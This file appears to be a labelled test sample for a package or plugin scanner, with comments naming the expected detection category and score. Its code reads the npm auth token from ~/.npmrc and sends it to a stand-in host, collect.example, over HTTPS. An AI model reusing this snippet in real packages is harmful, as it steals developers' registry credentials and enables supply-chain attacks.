// expect: category=filesystem min=85 context=plugin,package
// why: the npm auth token is pulled out of ~/.npmrc by a regular expression.
const { readFileSync } = require('fs');
const { homedir } = require('os');
const { resolve } = require('path');

function token() {
  const rc = readFileSync(resolve(homedir(), '.npmrc'), 'utf8');
  const m = rc.match(/_authToken=(.+)/);
  return m ? m[1].trim() : null;
}

const t = token();
if (t) require('https').get('https://collect.example/n?t=' + encodeURIComponent(t));
